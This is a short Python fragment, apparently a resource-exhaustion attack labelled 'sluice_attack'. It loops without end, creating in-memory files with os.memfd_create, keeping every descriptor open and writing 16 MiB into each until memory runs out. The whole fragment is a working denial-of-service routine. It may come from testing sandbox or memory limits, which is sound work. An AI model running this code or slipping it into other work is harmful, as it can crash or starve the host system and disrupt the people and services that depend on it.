kept = []
while True:
    descriptor = os.memfd_create("sluice_attack")
    kept.append(descriptor)
    for _ in range(16):
        os.write(descriptor, b"x" * (1 << 20))
